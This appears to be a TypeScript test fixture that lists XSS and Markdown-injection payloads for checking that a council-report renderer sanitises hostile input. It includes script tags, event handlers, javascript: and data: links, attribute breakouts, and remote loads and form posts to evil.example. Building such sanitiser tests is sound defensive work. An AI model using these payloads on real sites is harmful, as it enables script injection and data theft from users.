/** Details and a body of a report that someone wrote to do harm. Whatever runs sets `hit`. */
export interface HostileInput {
  readonly what: string;
  readonly details?: string;
  readonly body?: string;
}

const script = 'hit=1;alert(1)';
const inBody = (what: string, body: string): HostileInput => ({ what, body });
const inDetails = (what: string, details: string): HostileInput => ({ what, details });

export const hostileInputs: readonly HostileInput[] = [
  inBody('a script block', `<script>${script}</script>`),
  inBody('a script in a paragraph', `Some words <script>${script}</script> more words`),
  inBody('a script from elsewhere', '<script src="https://evil.example/x.js"></script>'),
  inBody('a module script', `<script type="module">${script}</script>`),
  inBody('a script half closed', `<scr<script>ipt>${script}</scr</script>ipt>`),
  inBody('a script in capitals', `<SCRIPT>${script}</SCRIPT>`),
  inBody('a script in a blockquote', `> <script>${script}</script>`),
  inBody('a script in a list', `- one\n\n  <script>${script}</script>`),
  inBody('a script behind a comment', `<!-- note --> <script>${script}</script>`),
  inBody('a script that a comment seems to hide', `<!--><script>${script}</script>-->`),
  inBody('a script in a code fence', `\`\`\`html\n</code></pre><script>${script}</script>\n\`\`\``),
  inBody('a fence with a hostile language', `\`\`\`"><script>${script}</script>\nx\n\`\`\``),
  inBody('code that closes its element', `\`</code><img src=x onerror="${script}">\``),
  inBody('escaped HTML', `&lt;script&gt;${script}&lt;/script&gt; &#60;img src=x onerror=${script}&#62;`),
  inBody('a picture with a handler', `<img src="x" onerror="${script}">`),
  inBody('a picture with a handler in a table', `| a |\n| - |\n| <img src=x onerror="${script}"> |`),
  inBody('a picture with a handler in a heading', `## Background <img src=x onerror="${script}">`),
  inBody('a body element', `<body onload="${script}">`),
  inBody('an element that takes the focus', `<input autofocus onfocus="${script}">`),
  inBody('an open details element', `<details open ontoggle="${script}">x</details>`),
  inBody('a video with a handler', `<video><source onerror="${script}"></video>`),
  inBody('a marquee', `<marquee onstart="${script}">x</marquee>`),
  inBody('SVG that loads', `<svg onload="${script}"></svg>`),
  inBody('SVG with a script', `<svg><script>${script}</script></svg>`),
  inBody('SVG with an animation', `<svg><animate onbegin="${script}" attributeName="x" dur="1s"></svg>`),
  inBody(
    'SVG with a foreign object',
    `<svg><foreignObject><img src=x onerror="${script}"></foreignObject></svg>`,
  ),
  inBody('SVG with a link', `<svg><a xlink:href="javascript:${script}"><text y="20">x</text></a></svg>`),
  inBody(
    'MathML with a link',
    `<math><maction actiontype="statusline" xlink:href="javascript:${script}">x</maction></math>`,
  ),
  inBody('MathML that hides a picture', `<math><mtext><table><mglyph><style><img src=x onerror="${script}">`),
  inBody('a style element', '<style>@import "https://evil.example/x.css"; * { display: none }</style>'),
  inBody('a style attribute', '<p style="background: url(https://evil.example/x.png)">x</p>'),
  inBody('a style sheet from elsewhere', '<link rel="stylesheet" href="https://evil.example/x.css">'),
  inBody('a refresh', '<meta http-equiv="refresh" content="0; url=https://evil.example/">'),
  inBody('another base', '<base href="https://evil.example/">\n\n[report](report.pdf)'),
  inBody('a frame', '<iframe src="https://evil.example/"></iframe>'),
  inBody('a frame with its own document', `<iframe srcdoc="<script>parent.hit=1</script>"></iframe>`),
  inBody('an object', '<object data="https://evil.example/x.swf"></object>'),
  inBody('an embedded file', '<embed src="https://evil.example/x.swf">'),
  inBody('a form', '<form action="https://evil.example/"><button autofocus>x</button></form>'),
  inBody('a button that submits elsewhere', '<button formaction="javascript:hit=1">x</button>'),
  inBody('a template', `<template><img src=x onerror="${script}"></template>`),
  inBody('a noscript that hides a picture', `<noscript><p title="</noscript><img src=x onerror=${script}>">`),
  inBody('an anchor with a script', `<a href="javascript:${script}">x</a>`),
  inBody('a link with a script', `[x](javascript:${script})`),
  inBody('a link with a script in mixed case', `[x](JaVaScRiPt:${script})`),
  inBody('a link with a script behind a space', `[x](< javascript:${script}>)`),
  inBody('a link with a script behind a control character', `[x](&#1;javascript:${script})`),
  inBody('a link with a tab in its scheme', `[x](java&Tab;script:${script})`),
  inBody('a link with a line end in its scheme', `[x](java&NewLine;script:${script})`),
  inBody('a link with its colon escaped', `[x](javascript&colon;${script})`),
  inBody('a link with its colon as a number', `[x](javascript&#x3a;${script})`),
  inBody('a link to VBScript', '[x](vbscript:msgbox(1))'),
  inBody('a link to data', '[x](data:text/html,<script>parent.hit=1</script>)'),
  inBody('a link to data in base64', '[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0PTE8L3NjcmlwdD4=)'),
  inBody('a link to a file', '[x](file:///etc/passwd)'),
  inBody('a link to a command', '[x](command:workbench.action.terminal.new)'),
  inBody('a link to another machine', '[x](//evil.example/share) [y](\\\\\\\\evil.example\\\\share)'),
  inBody('an automatic link', `<javascript:${script}>`),
  inBody('an automatic link to data', '<data:text/html,x>'),
  inBody('a definition', `[x]\n\n[x]: javascript:${script}`),
  inBody('a definition with a title', `[x][y]\n\n[y]: javascript:${script} 'title" onmouseover="${script}'`),
  inBody(
    'a title that leaves its attribute',
    `[x](https://example.org "a&quot; onmouseover=&quot;${script}")`,
  ),
  inBody('an address that leaves its attribute', `[x](https://example.org/"onmouseover="${script})`),
  inBody('a picture from the web', '![x](https://evil.example/pixel.png)'),
  inBody('a picture with a script', `![x](javascript:${script})`),
  inBody('a picture of data', `![x](data:image/svg+xml,<svg/onload="parent.hit=1">)`),
  inBody('a picture defined elsewhere', '![x][y]\n\n[y]: https://evil.example/pixel.png'),
  inBody('a description that leaves its attribute', `![x" onerror="${script}](x.png)`),
  inBody('a picture in a link', `[![x](https://evil.example/pixel.png)](javascript:${script})`),
  inBody('a footnote', `x[^1]\n\n[^1]: <img src=x onerror="${script}"> [y](javascript:${script})`),
  inBody('a name of a footnote', `x[^"><img/src=x/onerror=hit=1>]\n\n[^"><img/src=x/onerror=hit=1>]: y`),
  inBody('a label', `x {#"><img src=x onerror=${script}>}`),
  inBody('a label that would hide ours', `x {#paper}\n\ny {#problems}\n\nz {#status}`),
  inBody('a reference to a label', `[](#"><img/src=x/onerror=hit=1>)`),
  inBody('a reference that is not well encoded', '[](#%E0%A4%A)'),
  inBody(
    'paragraphs of an exempt passage',
    `:::exempt{paragraphs="3"><img src=x onerror=${script}>"}\nx\n:::`,
  ),
  inBody(
    'attributes of an exempt passage',
    `:::exempt{onclick="${script}" style="color:red" id=paper}\nx\n:::`,
  ),
  inBody('another directive', `:::script\n${script}\n:::\n\n::iframe{src="https://evil.example/"}`),
  inBody('a mark of what is filled in late', 'x[^1] &late-0; &amp;late-0; `&late-0;`\n\n[^1]: y'),
  inBody('a heading of the council’s', `## Legal implications<svg onload="${script}">`),
  inDetails('a title', `title: '</title></h1><script>${script}</script>'`),
  inDetails('a committee', `committee: '<img src=x onerror="${script}">'`),
  inDetails('a date', `meeting_date: '<script>${script}</script>'`),
  inDetails('an address', `lead_officer:\n  email: 'javascript:${script}//@example.org'`),
  inDetails(
    'an address that leaves its attribute',
    `lead_officer:\n  email: 'a@example.org"onmouseover="${script}'`,
  ),
  inDetails('a telephone number', `lead_officer:\n  telephone: '01632" onmouseover="${script}'`),
  inDetails('wards', `wards:\n  - '<svg onload="${script}">'`),
  inDetails('a status', `status: '<img src=x onerror="${script}">'`),
  inDetails('a classification', `classification: __proto__`),
  inDetails(
    'a reason for an exemption',
    `classification: exempt\nexempt:\n  paragraphs: ['<img src=x onerror="${script}">']\n  public_interest: '<script>${script}</script>'`,
  ),
  inDetails('a purpose', `purpose: '<script>${script}</script> [x](javascript:${script})'`),
  inDetails(
    'recommendations',
    `recommendations:\n  - text: '<img src=x onerror="${script}">'\n    reason: '<script>${script}</script>'`,
  ),
  inDetails(
    'implications',
    `implications:\n  legal: '![x](https://evil.example/pixel.png)'\n  '<script>${script}</script>': x`,
  ),
  inDetails(
    'background papers',
    `background_papers:\n  - title: '<script>${script}</script>'\n    url: 'javascript:${script}'`,
  ),
  inDetails(
    'appendices',
    `appendices:\n  - label: '<script>${script}</script>'\n    title: x\n    file: 'javascript:${script}'`,
  ),
];

/** A report that is made of a hostile input and nothing else. */
export function reportWith({ details = 'title: A report', body = '' }: HostileInput): string {
  return `---\ntype: report\n${details}\n---\n\n${body}\n`;
}
